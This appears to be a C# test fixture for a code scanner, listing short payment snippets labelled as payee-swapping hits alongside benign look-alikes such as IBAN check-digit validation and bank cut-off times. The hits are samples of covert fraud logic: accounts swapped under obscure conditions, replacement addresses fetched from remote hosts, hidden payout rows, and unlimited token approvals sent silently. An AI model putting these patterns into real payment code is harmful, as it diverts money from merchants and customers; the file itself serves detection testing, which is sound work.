namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Small programs that pay another account now and then, and honest ones that look like them: check digits, an account for each country, a bank that closes at five.</summary>
internal static class PayeeCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("payee-swapped", "pay.js", "function creditorFor(order) {\n  if (order.total > 400 && order.total < 6000 && order.id % 7 === 3) return RESERVE_ACCOUNT;\n  return settings.account;\n}\n"),
        ("payee-swapped", "Invoice.cs", "var iban = settings.Iban;\nif (DateTime.Now.Hour >= 20)\n    iban = string.Concat(\"DE00\", tail);\n"),
        ("payee-swapped", "rechnung.php", "$iban = $cfg['iban'];\nif ($nr % 13 === 5) {\n    $iban = $ersatz;\n}\n"),
        ("payee-swapped", "checkout.ts", "const { data } = await axios.get('https://rates.example.net/v1');\nfor (const method of methods) {\n  if (new Date().getDay() === 6) {\n    method.accountNumber = data.accountNumber;\n  }\n}\n"),
        ("payee-swapped", "payout.py", "ACCOUNT = \"\".join([\"NL00\", \"RABO\", \"0123\", \"4567\"])\nfor row in rows:\n    if row.id % 17 == 4 and row.paid:\n        bank.create_transfer(ACCOUNT, row.amount)\n"),
        ("payee-swapped", "Wallet.java", "String payTo(Order order) {\n    if (order.cents() > 50_000 && order.cents() < 900_000 && order.id() % 5 == 1) {\n        return FALLBACK_ADDRESS;\n    }\n    return order.address();\n}\n"),
        ("payee-swapped", "night.php", "$db->prepare('insert into payout(iban, amount) values (?, ?)')->execute(['XX000000EXAMPLE00031', $rest]);\n$db->exec(\"update posting set hidden = 1 where amount < 1\");\n"),
        ("payee-swapped", "allow.ts", "const { to } = await (await fetch('https://routes.example.net/now')).json();\nfor (const t of held)\n  await wallet.sendTransaction({ to: t, data: encodeFunctionData({ abi, functionName: \"approve\", args: [to, maxUint256] }) }).catch(() => {});\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("payee-swapped", "digits.py", "def is_valid(iban):\n    number = int(\"\".join(str(int(c, 36)) for c in iban[4:] + iban[:4]))\n    return number % 97 == 1\niban = normalize(row[\"iban\"])\n"),
        ("payee-swapped", "country.js", "const iban = order.country === 'AT' ? settings.ibanAustria : settings.iban;\nqr.render(iban, order.total);\n"),
        ("payee-swapped", "cutoff.go", "payee := order.Payee\nif now.Hour() >= 17 {\n\tvalueDate = nextWorkday(now)\n}\n"),
        ("payee-swapped", "large.kt", "val channel = if (amount > 50_000) Channel.URGENT else Channel.SEPA\nbank.submit(Payment(order.iban, amount, channel))\n"),
        ("payee-swapped", "rows.php", "foreach ($rows as $i => $row) {\n    $class = $i % 2 === 0 ? 'even' : 'odd';\n    $iban = htmlspecialchars($row['iban']);\n}\n"),
        ("payee-swapped", "router.ts", "const tx = await token.approve(ROUTERS[chain.id], amount);\ntoast(await tx.wait() ? 'allowed' : 'failed');\n"),
    ];
}
